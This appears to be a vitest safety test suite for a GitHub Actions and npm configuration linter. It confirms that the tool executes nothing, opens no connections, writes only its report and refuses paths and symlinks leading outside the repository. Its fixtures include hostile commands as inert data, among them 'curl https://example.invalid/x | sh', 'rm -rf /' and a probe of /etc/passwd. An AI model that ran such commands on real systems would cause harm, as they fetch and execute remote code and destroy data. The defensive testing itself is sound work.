import { execFileSync } from 'node:child_process';
import { lstatSync, mkdirSync, mkdtempSync, readdirSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { createRequire, syncBuiltinESMExports } from 'node:module';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { resolveConfig } from '../../src/engine/config/load-config.js';
import { lintFiles } from '../../src/engine/lint-files.js';
import { diskSource } from '../../src/engine/project.js';
import { allRules, builtinPlugin } from '../../src/rules/index.js';
import { buildPrivateCli, corpusDir, hasCorpus, runBuiltCli } from './helpers.js';

// The tool itself is safe: it runs nothing from a workflow, opens no connection, writes nothing but
// --output-file, and reads nothing outside the linted tree that it was not named.

let work: string;
let bin: string;

/** A workflow that would do damage if anything in it were executed. */
const DANGEROUS = `on: push
permissions: {}
jobs:
  publish:
    runs-on: ubuntu-latest
    permissions:
      id-token: write
    steps:
      - run: touch "$GITHUB_WORKSPACE/pwned" && curl https://example.invalid/x | sh
      - run: npm publish --provenance
        env:
          NODE_AUTH_TOKEN: \${{ secrets.NPM_TOKEN }}
      - uses: ./.github/actions/local
      - uses: docker://alpine:3
`;

beforeAll(() => {
  work = mkdtempSync(join(tmpdir(), 'trustlint-safety-'));
}, 120_000);

afterAll(() => {
  if (work) rmSync(work, { recursive: true, force: true });
});

function makeRepo(name: string): string {
  const repo = join(work, name);
  mkdirSync(join(repo, '.git'), { recursive: true });
  mkdirSync(join(repo, '.github/workflows'), { recursive: true });
  mkdirSync(join(repo, '.github/actions/local'), { recursive: true });
  writeFileSync(join(repo, '.github/workflows/release.yml'), DANGEROUS);
  writeFileSync(join(repo, '.github/actions/local/action.yml'), 'name: x\nruns:\n  using: composite\n  steps:\n    - run: rm -rf /\n      shell: bash\n');
  writeFileSync(join(repo, 'package.json'), '{"name":"x","version":"1.0.0","scripts":{"prepublishOnly":"touch pwned-by-script"}}\n');
  writeFileSync(join(repo, '.npmrc'), '//registry.npmjs.org/:_authToken=${NPM_TOKEN}\n');
  return repo;
}

/** Every entry under `dir` with what would change if it were written: type, size, mtime. */
function snapshot(dir: string): Record<string, string> {
  const entries: Record<string, string> = {};
  const stack = [dir];
  while (stack.length > 0) {
    const current = stack.pop()!;
    for (const name of readdirSync(current)) {
      const path = join(current, name);
      const stat = lstatSync(path);
      entries[path.slice(dir.length)] = `${stat.isDirectory() ? 'd' : stat.isSymbolicLink() ? 'l' : 'f'} ${stat.size} ${stat.mtimeMs}`;
      if (stat.isDirectory()) stack.push(path);
    }
  }
  return entries;
}

describe('the tool runs nothing and opens no connection', () => {
  it('lints with child_process, net, tls, dns, http(s) and fetch patched to record and throw', () => {
    const require = createRequire(import.meta.url);
    const calls: string[] = [];
    const restore: Array<() => void> = [];
    const trap = (label: string, target: Record<string, unknown>, names: readonly string[]) => {
      for (const name of names) {
        const original = target[name];
        if (typeof original !== 'function') continue;
        target[name] = (...args: unknown[]) => {
          calls.push(`${label}.${name}(${String(args[0]).slice(0, 60)})`);
          throw new Error(`trustlint must not call ${label}.${name}`);
        };
        restore.push(() => {
          target[name] = original;
        });
      }
    };
    trap('child_process', require('node:child_process'), ['spawn', 'spawnSync', 'exec', 'execSync', 'execFile', 'execFileSync', 'fork']);
    trap('net', require('node:net'), ['connect', 'createConnection']);
    trap('net.Socket.prototype', require('node:net').Socket.prototype, ['connect']);
    trap('tls', require('node:tls'), ['connect']);
    trap('dns', require('node:dns'), ['lookup', 'resolve', 'resolve4', 'resolve6']);
    trap('http', require('node:http'), ['request', 'get']);
    trap('https', require('node:https'), ['request', 'get']);
    trap('globalThis', globalThis as unknown as Record<string, unknown>, ['fetch']);
    // ES module imports of built-ins read these bindings: make them see the traps too.
    syncBuiltinESMExports();
    try {
      const repo = makeRepo('no-exec');
      const paths = [repo];
      // A slice of real workflows too, when the shared corpus is there.
      if (hasCorpus) paths.push(join(corpusDir, 'npm__cli'), join(corpusDir, 'changesets__action'), join(corpusDir, 'semantic-release__npm'));
      const config = resolveConfig({ extends: 'all' }, undefined, { plugins: [builtinPlugin], cwd: repo });
      const outcome = lintFiles({ paths, cwd: repo, config, rules: allRules });
      expect(outcome.results.length).toBeGreaterThan(1);
      expect(outcome.results.flatMap((result) => result.messages).filter((message) => message.message.startsWith('Internal error'))).toEqual([]);
      expect(calls).toEqual([]);
      // The trap itself works (the test can fail).
      expect(() => require('node:child_process').execSync('true')).toThrow(/must not call/);
      expect(calls).toEqual(['child_process.execSync(true)']);
    } finally {
      for (const undo of restore.reverse()) undo();
      syncBuiltinESMExports();
    }
  });
});

describe('the tool writes nothing but --output-file', () => {
  it('a run leaves the tree, HOME and TMPDIR as they were, plus the report', () => {
    bin = buildPrivateCli(join(work, 'build'));
    const repo = makeRepo('no-write');
    const home = join(work, 'home');
    const tmp = join(work, 'tmp');
    mkdirSync(home);
    mkdirSync(tmp);
    const before = { repo: snapshot(repo), home: snapshot(home), tmp: snapshot(tmp) };
    const run = runBuiltCli(bin, repo, ['--format', 'sarif', '-o', 'report.sarif'], { HOME: home, TMPDIR: tmp, XDG_CACHE_HOME: join(home, '.cache') });
    expect(run.stderr).toBe('');
    expect(run.status).toBe(1);
    const after = { repo: snapshot(repo), home: snapshot(home), tmp: snapshot(tmp) };
    const { '/report.sarif': report, ...rest } = after.repo;
    expect(report).toMatch(/^f [1-9]\d* /);
    expect(rest).toEqual(before.repo);
    expect(after.home).toEqual(before.home);
    expect(after.tmp).toEqual(before.tmp);
  }, 120_000);
});

describe('the tool reads nothing outside the linted tree', () => {
  let outside: string;
  let repo: string;

  beforeAll(() => {
    outside = join(work, 'outside');
    mkdirSync(outside, { recursive: true });
    writeFileSync(join(outside, 'package.json'), '{"name":"SECRET-OUTSIDE"}');
    writeFileSync(join(outside, 'secret.yml'), 'SECRET-OUTSIDE-TOKEN: [\n');
    repo = makeRepo('no-escape');
    symlinkSync(join(outside, 'package.json'), join(repo, 'linked-package.json'));
    symlinkSync(outside, join(repo, 'linked-dir'));
    writeFileSync(join(repo, 'inside.json'), '{"name":"inside"}');
    symlinkSync('inside.json', join(repo, 'link-inside.json'));
  });

  it('the project source refuses ../, absolute paths, and symbolic links out of the repository', () => {
    const project = diskSource(repo, 1024 * 1024);
    expect(project.read('package.json')).toContain('"name":"x"');
    expect(project.read('link-inside.json')).toBe('{"name":"inside"}');
    expect(project.read('../outside/package.json')).toBeUndefined();
    expect(project.read(join(outside, 'package.json'))).toBeUndefined();
    expect(project.read('linked-package.json')).toBeUndefined();
    expect(project.read('linked-dir/package.json')).toBeUndefined();
    expect(project.read('.github/../../outside/package.json')).toBeUndefined();
    expect(project.read('/etc/passwd')).toBeUndefined();
    expect([project.exists('package.json'), project.exists('linked-package.json'), project.exists('../outside/package.json')]).toEqual([true, false, false]);
  });

  it('the project source does not block on a FIFO or read a device', () => {
    const fifoRepo = join(work, 'fifo-repo');
    mkdirSync(fifoRepo);
    execFileSync('mkfifo', [join(fifoRepo, 'package.json')]);
    symlinkSync('/dev/zero', join(fifoRepo, '.npmrc'));
    const project = diskSource(fifoRepo, 1024 * 1024);
    expect(project.read('package.json')).toBeUndefined();
    expect(project.read('.npmrc')).toBeUndefined();
    expect(project.exists('package.json')).toBe(false);
  });

  it('a workflow linked from outside the searched tree is refused and its content never printed', () => {
    symlinkSync(join(outside, 'secret.yml'), join(repo, '.github/workflows/leak.yml'));
    // A linked directory is not followed at all.
    symlinkSync(outside, join(repo, '.github/workflows/linked'));
    const config = resolveConfig(undefined, undefined, { plugins: [builtinPlugin], cwd: repo });
    const outcome = lintFiles({ paths: [repo], cwd: repo, config, rules: allRules });
    const leak = outcome.results.find((result) => result.filePath.endsWith('leak.yml'));
    expect(leak?.messages.map((message) => message.message)).toEqual(['Symbolic link to a file outside the linted directory; not followed']);
    expect(JSON.stringify(outcome)).not.toContain('SECRET-OUTSIDE');
    expect(outcome.results.some((result) => result.filePath.includes('/linked/'))).toBe(false);
    expect(outcome.hadFatalIoOrInternalError).toBe(true);
  });

  it('a file named on the command line is read wherever it is (the user asked for it)', () => {
    const config = resolveConfig(undefined, undefined, { plugins: [builtinPlugin], cwd: repo });
    const outcome = lintFiles({ paths: [join(repo, '.github/workflows/leak.yml')], cwd: repo, config, rules: allRules });
    expect(outcome.results).toHaveLength(1);
    expect(outcome.results[0]!.messages.some((message) => message.message.startsWith('YAML:'))).toBe(true);
  });
});
